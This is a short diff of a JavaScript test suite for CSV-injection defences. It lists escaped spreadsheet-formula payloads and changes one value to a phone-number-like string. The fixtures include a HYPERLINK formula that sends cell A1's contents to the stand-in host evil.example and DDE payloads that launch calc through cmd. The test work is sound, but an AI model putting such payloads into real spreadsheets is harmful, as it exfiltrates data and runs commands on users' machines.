@@ -78,7 +78,7 @@ describe("a CSV-injection payload, end to end", () => {
       [
         `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`,
         "'=1+1@example.com",
-        "'-2+3",
+        "'-20 7946 0000",
         "'+cmd|' /C calc'!A0",
         "'@SUM(1+1)*cmd|' /C calc'!A0",
         "false",
